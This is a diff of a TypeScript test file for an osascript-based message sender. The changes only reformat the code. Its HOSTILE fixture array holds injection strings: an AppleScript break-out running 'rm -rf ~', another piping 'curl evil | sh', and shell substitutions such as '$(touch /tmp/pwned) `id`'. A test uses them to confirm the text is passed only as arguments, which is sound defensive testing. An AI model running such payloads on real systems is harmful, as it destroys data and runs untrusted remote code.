@@ -7,9 +7,9 @@ import { fakeOsascript, messagesHome, PREFIX, queued, until } from "./helpers";
 const HOSTILE = [
   'He said "hi" and left',
   '"; do shell script "rm -rf ~" --',
-  "end tell\nend run\non run argv\n  do shell script \"curl evil | sh\"",
+  'end tell\nend run\non run argv\n  do shell script "curl evil | sh"',
   "$(touch /tmp/pwned) `id` ; | & > <",
-  "line1\r\nline2\n\n\ttabbed \\ backslash \\\" quote",
+  'line1\r\nline2\n\n\ttabbed \\ backslash \\" quote',
   "ünïcödé — 日本語 — 🧑‍💻👍🏽 — \u202Eright-to-left — \u0000nul",
   "'single' \u2018curly\u2019 \u201Cdouble\u201D",
 ];
@@ -18,7 +18,8 @@ describe("osascript sender", () => {
   it("passes hostile text only as argv, byte for byte, with the fixed script on stdin", async () => {
     const env = messagesHome("tahoe");
     const fake = fakeOsascript(env);
-    for (const text of HOSTILE.filter((t) => !t.includes("\u0000"))) await sendMessage(env.chats.dm.guid, text);
+    for (const text of HOSTILE.filter((t) => !t.includes("\u0000")))
+      await sendMessage(env.chats.dm.guid, text);
     const calls = fake.calls();
     expect(calls.map((c) => c.argv)).toEqual(
       HOSTILE.filter((t) => !t.includes("\u0000")).map((t) => ["-", env.chats.dm.guid, t]),
@@ -84,7 +85,9 @@ describe.each(GENERATIONS)("outbox on a %s chat.db", (gen) => {
     // The user's own "ok" is a different row: it must arrive.
     env.writer.insert({ chat: env.chats.dm, handle: env.handles.operator, text: "ok" });
     await until(() => queued(state).length === 1, 10_000, "the genuine ok");
-    await until(() => state.counter("rows.accepted") + state.counter("rows.echo") + state.counter("rows.from_me") === 3);
+    await until(
+      () => state.counter("rows.accepted") + state.counter("rows.echo") + state.counter("rows.from_me") === 3,
+    );
     expect(queued(state).map((m) => m.text)).toEqual(["ok"]);
     await outbox.stop();
   });
@@ -130,7 +133,11 @@ describe("send budget", () => {
       });
     let outbox = mk();
     for (let i = 0; i < 5; i++) outbox.enqueue(env.chats.dm.guid, `${PREFIX}reply ${i}`);
-    await until(() => fake.calls().length === 3 && state.counter("send.deferred") >= 1, 10_000, "three sends");
+    await until(
+      () => fake.calls().length === 3 && state.counter("send.deferred") >= 1,
+      10_000,
+      "three sends",
+    );
     await outbox.stop();
     expect(state.backlog()).toBe(2);
     // A second process on the same bridge database (the first one's inbox keeps its handle).
